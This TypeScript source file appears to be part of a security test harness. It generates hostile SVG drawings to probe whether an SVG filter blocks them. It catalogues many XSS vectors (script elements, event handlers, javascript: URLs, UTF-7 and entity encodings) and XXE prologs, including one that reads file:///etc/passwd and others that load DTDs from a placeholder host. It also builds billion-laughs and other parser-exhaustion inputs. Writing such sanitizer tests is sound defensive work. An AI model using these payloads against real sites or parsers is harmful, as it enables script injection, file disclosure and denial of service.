import type { Random } from "../../../support/random.ts";
import type { Attack } from "./attack.ts";

const svg = "http://www.w3.org/2000/svg";
const xhtml = "http://www.w3.org/1999/xhtml";
const run = "attackRan()";
const away = "http://elsewhere.invalid/";

/** The content of a drawing; `name`: a prefix chosen by the attacker. */
type Inside = (name: string) => string;

/** Each would have an effect if a filter let it through: run a script, or contact another host. */
const insides: readonly Inside[] = [
  () => `<script>${run}</script>`,
  () => `<script><![CDATA[${run}]]></script>`,
  () => `<script href="data:text/javascript,${run}"/>`,
  (name) => `<${name}:script xmlns:${name}="${svg}">${run}</${name}:script>`,
  (name) => `<${name}:script xmlns:${name}="${xhtml}">${run}</${name}:script>`,
  (name) => `<${name}:img xmlns:${name}="${xhtml}" src="x" ${name}1="" onerror\n=\n"${run}"/>`,
  (name) => `<${name}:iframe xmlns:${name}="${xhtml}" src="javascript:parent.${run}"/>`,
  (name) => `<${name}:iframe xmlns:${name}="${xhtml}" srcdoc="&lt;script>parent.${run}&lt;/script>"/>`,
  (name) => `<${name}:object xmlns:${name}="${xhtml}" data="data:text/html,&lt;script>${run}&lt;/script>"/>`,
  (name) => `<${name}:embed xmlns:${name}="${xhtml}" src="${away}a"/>`,
  (name) => `<${name}:link xmlns:${name}="${xhtml}" rel="stylesheet" href="${away}a.css"/>`,
  (name) => `<${name}:meta xmlns:${name}="${xhtml}" http-equiv="refresh" content="0;url=${away}"/>`,
  (name) =>
    `<${name}:foreignObject xmlns:${name}="${svg}"><body xmlns="${xhtml}"><img src="x" onerror="${run}"/></body></${name}:foreignObject>`,
  () => `<foreignObject width="9" height="9"><video xmlns="${xhtml}" src="x" onerror="${run}"/></foreignObject>`,
  () => `<image href="x" onerror="${run}"/>`,
  () => `<image href="${away}a.png" width="9" height="9"/>`,
  () => `<image xmlns:x="http://www.w3.org/1999/xlink" x:href="${away}a.png" width="9" height="9"/>`,
  () => `<use href="${away}a.svg#a"/>`,
  () => `<use href="data:image/svg+xml,&lt;svg xmlns='${svg}' id='a'>&lt;script>${run}&lt;/script>&lt;/svg>#a"/>`,
  () => `<feImage href="${away}a.png"/>`,
  () => `<filter id="f"><feImage href="${away}a.png"/></filter><rect width="9" height="9" filter="url(#f)"/>`,
  () => `<animate onbegin="${run}" attributeName="x" dur="1s"/>`,
  () => `<animate onbegin\t=\t'${run}' attributeName="x" dur="1s"/>`,
  () => `<set attributeName="href" to="javascript:${run}"/>`,
  () => `<a href="java&#x73;cript:${run}"><rect width="100" height="100"/></a>`,
  () =>
    `<a href="javascript:${run}"><rect width="100" height="100"/><animate attributeName="href" values="javascript:${run}"/></a>`,
  () => `<rect width="9" height="9" onclick="${run}"/>`,
  () => `<rect width="9" height="9" style="background:url(${away}a.png)"/>`,
  () => `<rect width="9" height="9" fill="url(${away}a.svg#a)"/>`,
  () => `<rect width="9" height="9" fill="url( '${away}a.svg#a' )" mask="url(${away}b.svg#b)"/>`,
  () => `<style>@import url("${away}a.css");</style>`,
  () => `<style>@font-face{font-family:a;src:url(${away}a.woff2)}text{font-family:a}</style><text y="20">a</text>`,
  () => `<style>rect{fill:u\\72l(${away}a.svg#a)}</style><rect width="9" height="9"/>`,
  () => `<style><![CDATA[*{background:url(${away}a.png)}]]></style>`,
  () => `<handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">${run}</handler>`,
  () => `<metadata><script>${run}</script></metadata>`,
  () => `<switch><foreignObject><iframe xmlns="${xhtml}" src="${away}"/></foreignObject></switch>`,
];

/** The beginning of a drawing, with its own entities and defaults. */
const prologs: readonly string[] = [
  `<!DOCTYPE svg [<!ENTITY x "&#60;script>${run}&#60;/script>">]>`,
  `<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>`,
  `<!DOCTYPE svg [<!ENTITY % a SYSTEM "${away}a.dtd"> %a;]>`,
  `<!DOCTYPE svg SYSTEM "${away}a.dtd">`,
  `<!DOCTYPE svg [<!ATTLIST svg onload CDATA "${run}">]>`,
  `<!DOCTYPE svg [<!ATTLIST path id CDATA #IMPLIED><!ATTLIST svg o CDATA "x" onload CDATA '${run}'>]>`,
  `<?xml-stylesheet type="text/css" href="${away}a.css"?>`,
  `<?xml-stylesheet type="text/xsl" href="data:text/xml,%3Cxsl:stylesheet version='1.0' xmlns:xsl='http://www.w3.org/1999/XSL/Transform'%3E%3Cxsl:template match='/'%3E%3Cscript xmlns='${xhtml}'%3E${run}%3C/script%3E%3C/xsl:template%3E%3C/xsl:stylesheet%3E"?>`,
  `<!--><svg>-->`,
  `\n<!-- ${"x".repeat(5000)} -->\n`,
];

type Encoding = (text: string) => Uint8Array;

const encodings: Readonly<Record<string, Encoding>> = {
  "UTF-8": (text) => Buffer.from(text),
  "UTF-8 with a mark": (text) => Buffer.from(`\uFEFF${text}`),
  "UTF-16LE": (text) => Buffer.from(`\uFEFF${text}`, "utf16le"),
  "UTF-16BE": (text) => Buffer.from(`\uFEFF${text}`, "utf16le").swap16(),
  "UTF-16LE without a mark": (text) => Buffer.from(text, "utf16le"),
  "Latin-1": (text) => Buffer.from(`<?xml version="1.0" encoding="iso-8859-1"?>${text}`, "latin1"),
  "UTF-7 by its word": (text) =>
    Buffer.from(`<?xml version="1.0" encoding="UTF-7"?>${text.replaceAll("<script", "+ADw-script")}`),
  "ISO-2022-JP by its word": (text) =>
    Buffer.from(`<?xml version="1.0" encoding="ISO-2022-JP"?>${text.replaceAll("<script", "<\u001B(Bscript")}`),
  "XML 1.1": (text) => Buffer.from(`<?xml version="1.1"?>${text}`),
};

/** A drawing that a filter accepts, containing something it should not let through; or one that is too much for a parser. */
export function hostileDrawing(random: Random): { readonly reported: string; readonly bytes: Uint8Array } {
  if (random.chance(0.12)) return swollenDrawing(random);
  const prefix = random.pick(["a", "svg", "x-1", "_", "script", "é"]);
  const all = Array.from({ length: 1 + random.below(2) }, () => random.pick(insides)(prefix));
  const inside = random.chance(0.3) ? `<g transform="scale(1)"><g>${all.join("")}</g></g>` : all.join("");
  const isPrefixed = random.chance(0.25);
  const [open, close] = isPrefixed
    ? [`${prefix}:svg xmlns:${prefix}="${svg}" xmlns="${svg}"`, `${prefix}:svg`]
    : [`svg xmlns="${svg}"`, "svg"];
  const onload = random.chance(0.2)
    ? random.pick([
        ` onload="${run}"`,
        `\nonload\n=\n'${run}'`,
        `\u0009onload='${run}'`,
        ` a="'>" onload="&#115;trangerRan()"`,
      ])
    : "";
  const prolog = random.chance(0.35) ? random.pick(prologs) : "";
  const entity = prolog.includes("ENTITY x") ? "&x;" : "";
  const text = `${prolog}<${open} viewBox="0 0 100 100"${onload}><path id="1" d="M0 0h100v100H0z"/>${entity}${inside}</${close}>`;
  const encoding = random.chance(0.7) ? "UTF-8" : random.pick(Object.keys(encodings));
  return {
    reported: `${encoding}: ${text.replaceAll(/\s+/g, " ").slice(0, 220)}`,
    bytes: encodings[encoding]?.(text) ?? Buffer.from(text),
  };
}

function swollenDrawing(random: Random): { readonly reported: string; readonly bytes: Uint8Array } {
  const entities = Array.from({ length: 9 }, (_, level) => `<!ENTITY e${level + 1} "${`&e${level};`.repeat(10)}">`);
  const texts: Readonly<Record<string, () => string>> = {
    "entities within entities": () =>
      `<!DOCTYPE svg [<!ENTITY e0 "aaaaaaaaaa">${entities.join("")}]><svg xmlns="${svg}" viewBox="0 0 9 9"><title>&e9;</title></svg>`,
    "nested 100,000 deep": () =>
      `<svg xmlns="${svg}" viewBox="0 0 9 9">${"<g>".repeat(100_000)}${"</g>".repeat(100_000)}</svg>`,
    "100,000 attributes": () =>
      `<svg xmlns="${svg}" viewBox="0 0 9 9"><path ${Array.from({ length: 100_000 }, (_, index) => `a${index}="1"`).join(" ")}/></svg>`,
    "200,000 shapes": () =>
      `<svg xmlns="${svg}" viewBox="0 0 9 9">${'<path id="b" d="M0 0h1v1z"/>'.repeat(200_000)}</svg>`,
    "a path of a million points": () =>
      `<svg xmlns="${svg}" viewBox="0 0 9 9"><path d="M0 0${"l1 1".repeat(1_000_000)}z"/></svg>`,
    "a wide viewBox": () =>
      `<svg xmlns="${svg}" viewBox="0 0 1e300 1e-300"><path transform="${"scale(9e99) ".repeat(5000)}" d="M0 0h1v1z"/></svg>`,
    "blanks in attributes": () =>
      `<svg xmlns="${svg}" viewBox="0 0 9 9"><path ${" ".repeat(2_000_000)} d="M0 0h1v1z"/></svg>`,
    "many open brackets": () => `<svg xmlns="${svg}" viewBox="0 0 9 9">${"<!--".repeat(300_000)}`,
  };
  const reported = random.pick(Object.keys(texts));
  return { reported: reported, bytes: Buffer.from(texts[reported]?.() ?? "") };
}

export const drawings: Attack = async ({ folder, random }) => {
  const paths = ["Planet/kati 1.svg", "Planet/tipi b.svg", "Planet/konture.svg"];
  const done: string[] = [];
  for (const path of paths.filter((_, index) => index === 0 || random.chance(0.5))) {
    const { reported, bytes } = hostileDrawing(random);
    await folder.put(path, bytes);
    done.push(`${path}: ${reported}`);
  }
  return done.join("; ");
};
